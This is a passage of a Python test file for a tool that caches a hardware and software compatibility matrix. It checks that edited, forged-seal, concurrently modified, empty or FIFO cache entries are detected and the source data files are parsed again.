    assert not any(n > 10_000 for n in hashed)  # the entry itself was not hashed again

    # In place, same size, mtime restored: the stat's ctime differs, the seal is checked, and the
    # edited bytes fail it: the data files are parsed again (the answer stays the data's).
    blob = bytearray(entry.read_bytes())
    at = blob.index(b"8x AMD Instinct MI300X")
    blob[at : at + 2] = b"9x"
    st = entry.stat()
    with entry.open("r+b") as f:
        f.write(blob)
    os.utime(entry, ns=(st.st_atime_ns, st.st_mtime_ns))
    hashed.clear()
    matrix.reload()
    assert matrix.load() == first
    assert any(n > 10_000 for n in hashed)
    assert b"9x AMD" not in entry.read_bytes()  # rewritten from the data files

    # A mark that names the entry's stat but is not sealed with this user's key is not trusted.
    matrix.reload()
    matrix.load()  # the rewritten entry gets its mark
    assert mark.is_file()
    blob = bytearray(entry.read_bytes())
    blob[blob.index(b"8x AMD Instinct MI300X")] = ord("9")
    entry.write_bytes(blob)  # same size; a new ctime
    mark.write_text(f"{'0' * 64}\n{matrix._stat_line(entry.stat())}\n")
    hashed.clear()
    matrix.reload()
    assert matrix.load() == first
    assert any(n > 10_000 for n in hashed)


def test_an_entry_written_to_under_a_running_command_is_never_read_as_checked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The entry is mapped, not copied (no fresh memory for its 2 MB), so its bytes are read as
    the records are decoded: an entry written to in place while it is decoded is a miss (the data
    files are parsed again), and one written to after it, before a deferred table is read from it,
    is a data error saying to run again, never the edited records. An empty entry, or a FIFO
    where the entry should be, is a miss that does not block."""
    import os
    import time
    from typing import Any

    from resolver.data import resources

    d = copy_matrix(tmp_path)
    monkeypatch.setenv("ROCM_VLLM_MATRIX_DIR", str(d))
    matrix.reload()
    first = matrix.load()  # parsed; the entry written
    (entry,) = (resources.cache_dir() / "matrix").glob("*.msgpack")
    pristine = entry.read_bytes()

    def in_place(path: Path) -> None:
        time.sleep(0.02)  # past the file system's timestamp tick: the write shows in the ctime
        blob = bytearray(path.read_bytes())
        blob[-1] ^= 1
        with path.open("r+b") as f:
            f.write(blob)

    real = matrix._decode_compiled

    def written_while_decoded(*args: Any) -> object:
        out = real(*args)
        in_place(entry)
        return out

    parsed: list[object] = []
    from resolver.data import build

    real_parse = build.read_all
    monkeypatch.setattr(build, "read_all", lambda *a: parsed.append(a) or real_parse(*a))
    with monkeypatch.context() as mp:
        mp.setattr(matrix, "_decode_compiled", written_while_decoded)
        matrix.reload()
        assert matrix.load() == first
    assert len(parsed) == 1  # a miss: the files were parsed again (and the entry rewritten)

    entry.write_bytes(pristine)
    matrix.reload()
    parsed.clear()
    m = matrix.load()
    assert parsed == []  # read from the entry
    in_place(entry)
    with pytest.raises(MatrixError, match="changed on disk") as raised:
        _ = m.cuda
    assert raised.value.exit_code == 3 and raised.value.hint == "run the command again"

    for odd in ("empty", "fifo"):
        entry.unlink()
        if odd == "empty":
            entry.write_bytes(b"")
        else:
            os.mkfifo(entry)
        matrix.reload()
        parsed.clear()
        assert matrix.load() == first
        assert len(parsed) == 1
    matrix.reload()
